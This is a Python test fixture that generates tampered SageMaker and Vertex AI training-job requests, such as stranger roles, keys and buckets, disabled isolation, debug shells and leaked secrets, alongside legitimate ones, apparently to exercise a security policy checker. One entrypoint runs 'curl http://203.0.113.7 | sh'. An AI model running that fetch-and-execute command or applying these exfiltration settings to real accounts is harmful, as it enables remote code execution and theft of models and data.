"""Requests for training jobs with one setting changed, and honest ones beside them.

The attacker changes one setting of a request that was approved, in git or straight at
the provider's interface.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from securetrain.cloud_requests import (
    GONE,
    REGION,
    Site,
    approved,
    approved_vertex,
    change,
    channel,
    image,
    key,
)


@dataclass(frozen=True)
class Attempt:
    """One changed request.

    question: the key of cloud.QUESTIONS that it abuses
    """

    name: str
    provider: str
    question: str
    request: dict[str, Any]


def attempts(site: Site) -> list[Attempt]:
    """Return every changed request, of both providers."""
    found = []
    for provider, base, rows in (
        ("sagemaker", approved(site), _aws(site)),
        ("vertex", approved_vertex(site), _google(site)),
    ):
        for question, name, *changes in rows:
            sent = change(base, *changes)
            found.append(Attempt(name, provider, question, sent))
    return found


def _aws(site: Site) -> Iterator[tuple]:
    ours, theirs = key(site.account, site), key(site.stranger, site)
    role = "arn:aws:iam::{}:role/{}"
    spec, output = "AlgorithmSpecification", "OutputDataConfig"
    bucket = f"s3://drop-{site.stranger}/"
    yield (
        "who",
        "an administrator's role",
        ("RoleArn", role.format(site.account, "Admin")),
    )
    yield (
        "who",
        "a stranger's role",
        ("RoleArn", role.format(site.stranger, "training-x")),
    )
    yield "reach", "open network", ("EnableNetworkIsolation", GONE)
    yield "reach", "no VPC", ("VpcConfig", GONE)
    yield (
        "reach",
        "gradients in clear",
        ("EnableInterContainerTrafficEncryption", False),
    )
    yield "reach", "a shell", ("RemoteDebugConfig", {"EnableRemoteDebug": True})
    server = f"arn:aws:sagemaker:{REGION}:{site.stranger}:mlflow-tracking-server/x"
    yield "reach", "metrics to a stranger", ("MlflowConfig.MlflowResourceArn", server)
    yield "keys", "no key for the disk", ("ResourceConfig.VolumeKmsKeyId", GONE)
    yield (
        "keys",
        "a stranger's key for the disk",
        ("ResourceConfig.VolumeKmsKeyId", theirs),
    )
    yield "keys", "no key for the model", (f"{output}.KmsKeyId", GONE)
    yield "keys", "a stranger's key for the model", (f"{output}.KmsKeyId", theirs)
    alias = ours.partition("key/")[0] + "alias/signs"
    yield "keys", "an alias, which can be moved", (f"{output}.KmsKeyId", alias)
    tag = image(site.account, ":stable")
    yield "image", "an image by tag", (f"{spec}.TrainingImage", tag)
    other = image(site.stranger, f"@sha256:{site.digest}")
    yield "image", "a stranger's image", (f"{spec}.TrainingImage", other)
    yield "image", "an algorithm from a shop", (f"{spec}.AlgorithmName", "shop-trainer")
    code = '"s3://signs-train/code.tar.gz"'
    yield "image", "code by path", ("HyperParameters.sagemaker_submit_directory", code)
    shell = ["/bin/bash", "-c", "curl http://203.0.113.7 | sh"]
    yield "image", "code in the request", (f"{spec}.ContainerEntrypoint", shell)
    rule = {"RuleConfigurationName": "r", "RuleEvaluatorImage": other}
    yield "image", "a stranger's rule", ("DebugRuleConfigurations", [rule])
    yield "data", "a stranger's data", ("InputDataConfig.0", channel(bucket))
    listed = "InputDataConfig.0.DataSource.S3DataSource.S3DataType"
    yield "data", "data by a list", (listed, "ManifestFile")
    yield "data", "the model to a stranger", (f"{output}.S3OutputPath", bucket)
    yield "data", "checkpoints to a stranger", ("CheckpointConfig", {"S3Uri": bucket})
    yield "data", "profiles to a stranger", ("ProfilerConfig", {"S3OutputPath": bucket})
    yield "data", "a bucket in a parameter", ("HyperParameters.sync", f'"{bucket}"')
    file = {
        "FileSystemId": "fs-0a1b2c3d4e",
        "FileSystemType": "FSxLustre",
        "DirectoryPath": "/signs/train",
        "FileSystemAccessMode": "rw",
    }
    source = {"FileSystemDataSource": file}
    yield "data", "data that may be written", ("InputDataConfig.0.DataSource", source)
    yield (
        "secrets",
        "a password in the environment",
        ("Environment", {"REGISTRY_PASSWORD": site.secret}),
    )
    yield "secrets", "a token in a parameter", ("HyperParameters.hf_token", site.secret)
    yield (
        "secrets",
        "a token in an argument",
        (f"{spec}.ContainerArguments", ["train", "--api-key", site.secret]),
    )
    yield "limits", "no end", ("StoppingCondition", GONE)
    yield "limits", "28 days", ("StoppingCondition.MaxRuntimeInSeconds", 28 * 24 * 3600)
    yield "limits", "100 machines", ("ResourceConfig.InstanceCount", 100)


def _google(site: Site) -> Iterator[tuple]:
    pool, container = (
        "jobSpec.workerPoolSpecs.0",
        "jobSpec.workerPoolSpecs.0.containerSpec",
    )
    default = "123456789-compute@developer.gserviceaccount.com"
    ring = "projects/{}/locations/europe-west4/keyRings/training/cryptoKeys/signs"
    registry = "europe-west4-docker.pkg.dev/{}/trainers/signs"
    bucket = f"gs://drop-{site.stranger}/"
    yield "who", "the default account", ("jobSpec.serviceAccount", default)
    yield "who", "no account", ("jobSpec.serviceAccount", GONE)
    yield (
        "who",
        "a stranger's account",
        ("jobSpec.serviceAccount", "training-x@stranger-1.iam.gserviceaccount.com"),
    )
    yield "reach", "no network", ("jobSpec.network", GONE)
    yield "reach", "a shell", ("jobSpec.enableWebAccess", True)
    yield "reach", "a shell, spelled with _", ("jobSpec.enable_web_access", True)
    yield "keys", "no key", ("encryptionSpec", GONE)
    yield (
        "keys",
        "a stranger's key",
        ("encryptionSpec.kmsKeyName", ring.format("other-1")),
    )
    tag = registry.format(site.project) + ":stable"
    yield "image", "an image by tag", (f"{container}.imageUri", tag)
    other = registry.format("other-1") + f"@sha256:{site.digest}"
    yield "image", "a stranger's image", (f"{container}.imageUri", other)
    package = {
        "executorImageUri": registry.format(site.project) + f"@sha256:{site.digest}",
        "packageUris": ["gs://signs-train/code.tar.gz"],
        "pythonModule": "train",
    }
    yield (
        "image",
        "code by path",
        (container, GONE),
        (f"{pool}.pythonPackageSpec", package),
    )
    inline = ["python3", "-c", "print('any code')"]
    yield "image", "code in the request", (f"{container}.command", inline)
    yield (
        "data",
        "the model to a stranger",
        ("jobSpec.baseOutputDirectory.outputUriPrefix", bucket),
    )
    mounted = [f"--data=/gcs/drop-{site.stranger}/train"]
    yield "data", "a stranger's bucket, mounted", (f"{container}.args", mounted)
    env = [{"name": "REGISTRY_PASSWORD", "value": site.secret}]
    yield "secrets", "a password in the environment", (f"{container}.env", env)
    yield (
        "secrets",
        "a token in an argument",
        (f"{container}.args", [f"--api-key={site.secret}"]),
    )
    yield "limits", "no end", ("jobSpec.scheduling", GONE)
    yield "limits", "100 machines", (f"{pool}.replicaCount", 100)


def honest(site: Site) -> list[Attempt]:
    """Return requests of colleagues that must pass; their `question` is empty."""
    base, google = approved(site), approved_vertex(site)
    container = "jobSpec.workerPoolSpecs.0.containerSpec"
    kept = f"arn:aws:secretsmanager:{REGION}:{site.account}:secret"
    secret = f"{kept}:registry-{site.digest[:6]}"
    psc = {
        "networkAttachment": f"projects/{site.project}/regions/r/networkAttachments/t"
    }
    mirror = f"public.ecr.example/signs/base@sha256:{site.digest}"
    rows = [
        ("as approved", ()),
        ("one machine", (("ResourceConfig.InstanceCount", 1),)),
        ("spot with checkpoints", (("EnableManagedSpotTraining", True),
            ("CheckpointConfig", {"S3Uri": "s3://signs-models/checkpoints/"}))),
        ("a GPU with disks of its own", (("ResourceConfig.VolumeKmsKeyId", GONE),
            ("ResourceConfig.InstanceType", "ml.g5.xlarge"))),
        ("a newer GPU with disks of its own", (("ResourceConfig.VolumeKmsKeyId", GONE),
            ("ResourceConfig.InstanceType", "ml.g6.xlarge"))),
        ("words that look like tokens", (("HyperParameters", {"max_tokens": "512",
            "eos_token": "</s>", "pad_token": "[PAD]", "tokenizer": "bpe"}),)),
        ("a secret by reference", (("Environment", {"REGISTRY_PASSWORD": secret}),)),
        ("a mirror that we named", (("AlgorithmSpecification.TrainingImage", mirror),)),
        ("profiles to our bucket", (
            ("ProfilerConfig", {"S3OutputPath": "s3://signs-models/profiles"}),)),
        ("a whole day", (("StoppingCondition.MaxRuntimeInSeconds", 24 * 3600),)),
    ]  # fmt: skip
    vertex = [
        ("as approved", ()),
        ("private service connect", (("jobSpec.network", GONE),
            ("jobSpec.pscInterfaceConfig", psc))),
        ("a count as text", (("jobSpec.workerPoolSpecs.0.replicaCount", "2"),)),
        ("spot", (("jobSpec.scheduling.strategy", "SPOT"),)),
        ("a secret by reference", ((f"{container}.env", [{"name": "REGISTRY_PASSWORD",
            "value": f"projects/{site.project}/secrets/registry/versions/1"}]),)),
    ]  # fmt: skip
    return [
        Attempt(name, provider, "", change(request, *changes))
        for provider, request, some in (
            ("sagemaker", base, rows),
            ("vertex", google, vertex),
        )
        for name, changes in some
    ]
